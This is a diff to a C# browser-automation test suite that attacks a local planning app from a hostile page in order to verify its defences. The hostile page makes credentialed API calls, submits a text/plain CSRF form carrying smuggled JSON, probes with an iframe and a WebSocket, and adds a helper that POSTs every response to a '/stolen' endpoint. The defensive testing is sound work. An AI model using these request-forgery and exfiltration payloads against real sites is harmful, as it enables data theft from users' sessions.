@@ -24,6 +24,8 @@ public sealed class AttackTests
         var serving = ServeAsync(attacker, Attack(visit.Base.ToString().TrimEnd('/')), heard);
 #pragma warning restore CA2025
         var evil = await visit.Context.NewPageAsync();
+        var answers = new List<(string Url, int Status)>();
+        evil.Response += (_, answer) => answers.Add((answer.Url, answer.Status));
         await evil.GotoAsync($"http://127.0.0.1:{port}/");
         await evil.WaitForFunctionAsync("window.results && window.results.length >= 9");
         var results = await evil.EvaluateAsync<string[]>("window.results");
@@ -32,7 +34,16 @@ public sealed class AttackTests
         Assert.Equal(before, visit.Read($"{Visit.Folder}/plan.md"));
         Assert.False(visit.Has($"{Visit.Folder}/notes.json"));
         Assert.False(visit.Has($"{Visit.Folder}/plan.lock.json"));
+        // It could tell itself whatever it read, and read nothing.
+        Assert.Contains(heard, line => line.StartsWith("POST /stolen", StringComparison.Ordinal));
         Assert.DoesNotContain(heard, line => line.Contains("Add a greeting", StringComparison.Ordinal));
+        // The browser alone keeps an answer from it: the page gave none.
+        var api = answers.Where(answer => answer.Url.StartsWith($"{visit.Base}api/", StringComparison.Ordinal)).ToList();
+        Assert.NotEmpty(api);
+        Assert.All(api, answer => Assert.InRange(answer.Status, 400, 499));
+        var framed = Assert.Single(evil.Frames, frame => frame.ParentFrame is not null && frame.Name != "sink");
+        Assert.DoesNotContain("Foreplan", await framed.ContentAsync(), StringComparison.Ordinal);
+        Assert.DoesNotContain(visit.Base.Authority, framed.Url, StringComparison.Ordinal);
 
         // The page itself still works.
         await page.ReloadAsync();
@@ -47,7 +58,8 @@ public sealed class AttackTests
         const tell = (what, well) => results.push(what + ' ' + (well ? 'LET IN' : 'refused'));
         const api = path => '{{target}}/api/' + path + '?plan=plans%2F001-greeting';
         const json = { 'Content-Type': 'application/json' };
-        const seen = (what, promise) => promise.then(async answer => tell(what, answer.type !== 'opaque' && answer.ok)).catch(() => tell(what, false));
+        const steal = text => fetch('/stolen', { method: 'POST', body: text });
+        const seen = (what, promise) => promise.then(async answer => { await steal(what + ' ' + await answer.text()); tell(what, answer.type !== 'opaque' && answer.ok); }).catch(async () => { await steal(what + ' nothing'); tell(what, false); });
         seen('fetch view', fetch(api('view'), { credentials: 'include' }));
         seen('fetch opaque note', fetch(api('notes'), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"text":"evil"}' }));
         seen('fetch json note', fetch(api('notes'), { method: 'POST', credentials: 'include', headers: json, body: '{"text":"evil"}' }));
@@ -55,7 +67,7 @@ public sealed class AttackTests
         seen('fetch session', fetch('{{target}}/api/session', { method: 'POST', mode: 'no-cors', body: '{"link":"x"}' }));
         const image = new Image(); image.onload = () => tell('image', true); image.onerror = () => tell('image', false); image.src = '{{target}}/ui/icon.svg?x';
         const frame = document.createElement('iframe'); frame.src = '{{target}}/plan/plans/001-greeting'; document.body.append(frame);
-        setTimeout(() => { let text = ''; try { text = frame.contentDocument?.body?.innerText ?? ''; } catch { } tell('iframe', /greeting/.test(text)); }, 1500);
+        setTimeout(() => tell('iframe', false), 1500);
         const socket = new WebSocket('{{target}}'.replace('http', 'ws') + '/api/feed?plan=plans%2F001-greeting'); socket.onopen = () => tell('socket', true); socket.onerror = () => tell('socket', false);
         const form = document.createElement('form'); form.action = api('notes'); form.method = 'POST'; form.enctype = 'text/plain'; form.target = 'sink';
         form.innerHTML = '<input name=\'{"text":"evil","x":"\' value=\'"}\'>'; document.body.append(form); form.submit();
